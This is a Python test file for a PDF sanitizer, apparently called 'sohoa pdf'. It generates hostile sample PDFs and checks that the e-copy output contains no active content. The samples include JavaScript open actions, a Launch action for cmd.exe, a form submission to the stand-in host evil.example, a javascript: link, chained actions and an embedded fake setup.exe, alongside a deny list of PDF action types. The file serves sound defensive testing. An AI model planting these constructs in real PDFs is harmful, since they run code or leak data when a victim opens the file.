"""Issue 21 item 1: a hostile-PDF corpus through the real ``sohoa pdf``; the e-copy keeps no active content.

Each file is a born-digital page with real text (so the page is copied, not re-rasterised) plus one
way of hiding an action or a file. The output is checked object by object, independently of the
sanitizer: no action other than a plain http(s) link, no chains, no embedded or associated files,
no additional actions, no multimedia annotations.
"""
from __future__ import annotations

from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.test_hostile import run_cli

ACTION_TYPES = {"/GoTo", "/GoToR", "/GoToE", "/Launch", "/Thread", "/URI", "/Sound", "/Movie", "/Hide", "/Named",
                "/SubmitForm", "/ResetForm", "/ImportData", "/JavaScript", "/SetOCGState", "/Rendition", "/Trans",
                "/GoTo3DView", "/RichMediaExecute"}
FORBIDDEN_KEYS = {"/AA", "/AF", "/Next", "/JS", "/EF", "/EmbeddedFiles", "/OpenAction", "/RichMediaContent", "/XFA"}


def _js(pdf: pikepdf.Pdf, code: str = "app.alert('x')") -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _text_page(label: str) -> tuple[pikepdf.Pdf, pikepdf.Object]:
    """A one-page PDF whose page has real text (copied into the e-copy as it is)."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    lines = " ".join(f"BT /F1 14 Tf 60 {780 - 20 * i} Td (Ho so {label} dong {i} tiep nhan) Tj ET" for i in range(8))
    page.obj.Contents = pdf.make_stream(lines.encode())
    return pdf, page.obj


def _annot(pdf: pikepdf.Pdf, page: pikepdf.Object, **fields) -> pikepdf.Object:
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[40, 10, 90, 30], **fields))
    annots = page.get(Name.Annots, Array())
    annots.append(annot)
    page.Annots = annots
    return annot


def _embedded(pdf: pikepdf.Pdf) -> pikepdf.Object:
    exe = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 100)
    exe.Type = Name.EmbeddedFile
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("setup.exe"), UF=String("setup.exe"),
                                        EF=Dictionary(F=exe), AFRelationship=Name.Unspecified))


def hostile_pdfs(root: Path) -> dict[str, Path]:
    """The four cases the probe found, plus OpenAction, Launch, SubmitForm and RichMedia."""
    out: dict[str, Path] = {}

    def save(name: str, pdf: pikepdf.Pdf) -> None:
        out[name] = root / f"{name}.pdf"
        pdf.save(out[name])

    pdf, page = _text_page("af")
    page.AF = Array([_embedded(pdf)])
    save("page-af", pdf)

    pdf, page = _text_page("next")
    _annot(pdf, page, Subtype=Name.Link,
           A=Dictionary(S=Name.URI, URI=String("https://dichvucong.gov.vn/"),
                        Next=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=Array([_js(pdf)]))))
    save("link-next-js", pdf)

    pdf, page = _text_page("uri")
    _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(" JavaScript:app.alert(1)")))
    save("link-javascript-uri", pdf)

    pdf, page = _text_page("field")
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("ten"), AA=Dictionary(K=_js(pdf), F=_js(pdf))))
    widget = _annot(pdf, page, Subtype=Name.Widget, Parent=field, P=page)
    field.Kids = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    save("widget-parent-aa", pdf)

    pdf, page = _text_page("open")
    pdf.Root.OpenAction = _js(pdf)
    page.AA = Dictionary(O=_js(pdf))
    save("open-action", pdf)

    pdf, page = _text_page("launch")
    _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"),
                                                      Win=Dictionary(F=String("cmd.exe"))))
    save("launch", pdf)

    pdf, page = _text_page("submit")
    field = pdf.make_indirect(Dictionary(FT=Name.Btn, T=String("gui")))
    widget = _annot(pdf, page, Subtype=Name.Widget, Parent=field,
                    A=Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))))
    field.Kids = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    save("submit-form", pdf)

    pdf, page = _text_page("media")
    _annot(pdf, page, Subtype=Name.RichMedia,
           RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), _embedded(pdf)]))))
    save("rich-media", pdf)
    return out


def _plain_link_pdf(root: Path) -> Path:
    pdf, page = _text_page("link")
    _annot(pdf, page, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://dichvucong.gov.vn/tra-cuu")))
    pdf.save(root / "plain-link.pdf")
    return root / "plain-link.pdf"


def active_parts(path: Path) -> list[str]:
    """Every object of ``path`` that an e-copy must not hold, described (independent of the code under test)."""
    bad: list[str] = []
    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            if not isinstance(obj, (Dictionary, pikepdf.Stream)):
                continue
            where = f"object {obj.objgen}"
            bad += [f"{where}: {key}" for key in FORBIDDEN_KEYS if key in obj]
            if str(obj.get("/Type", "")) in ("/EmbeddedFile", "/Filespec"):
                bad.append(f"{where}: {obj.Type}")
            if str(obj.get("/Subtype", "")) in ("/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"):
                bad.append(f"{where}: {obj.Subtype} annotation")
            for action in [obj.get("/A")] + ([obj] if str(obj.get("/S", "")) in ACTION_TYPES else []):
                if action is None:
                    continue
                uri = str(action.get("/URI", "")).strip().lower() if isinstance(action, Dictionary) else ""
                if not isinstance(action, Dictionary) or action.get("/S") != "/URI" \
                        or not uri.startswith(("http://", "https://")):
                    bad.append(f"{where}: action {action.get('/S') if isinstance(action, Dictionary) else action}")
    return bad


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Path]:
    return hostile_pdfs(tmp_path_factory.mktemp("hostile-pdf"))


def test_the_corpus_is_hostile(corpus: dict[str, Path]) -> None:
    """The checker finds each file's active content in the file itself (so an empty finding below means something)."""
    for name, path in corpus.items():
        assert active_parts(path), name


def test_hostile_pdf_corpus_keeps_no_active_content(corpus: dict[str, Path], tmp_path: Path) -> None:
    """One ``sohoa pdf`` run over the corpus: the e-copy has its text and no action, chain or embedded file."""
    run = run_cli("pdf hostile", ["pdf", *map(str, corpus.values()), "-o", "out.pdf", "--json", "--jobs", "1"],
                  tmp_path)
    assert run.code == 0, run.output
    out = tmp_path / "out.pdf"
    assert active_parts(out) == []
    with pikepdf.open(out) as pdf:
        assert len(pdf.pages) == len(corpus)
        for page in pdf.pages:
            for annot in page.obj.get("/Annots", []):
                assert "/AA" not in annot and ("/A" not in annot or str(annot.A.URI).startswith("https://"))
    # The report says what was removed, page by page.
    for what in ("associated files", "chained actions", "javascript: link", "automatic actions", "Launch action",
                 "SubmitForm action", "RichMedia annotation"):
        assert what in run.output, what
    import subprocess

    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True).stdout
    for label in ("af", "next", "uri", "field", "open", "launch", "submit", "media"):
        assert f"Ho so {label} dong 3" in text, f"the page's own text must survive ({label})"


def test_a_plain_https_link_survives(tmp_path: Path) -> None:
    src = _plain_link_pdf(tmp_path)
    run = run_cli("pdf link", ["pdf", str(src), "-o", "out.pdf", "--jobs", "1"], tmp_path)
    assert run.code == 0, run.output
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        [annot] = pdf.pages[0].obj.Annots
        assert annot.A.S == "/URI" and str(annot.A.URI) == "https://dichvucong.gov.vn/tra-cuu"
    assert active_parts(tmp_path / "out.pdf") == []
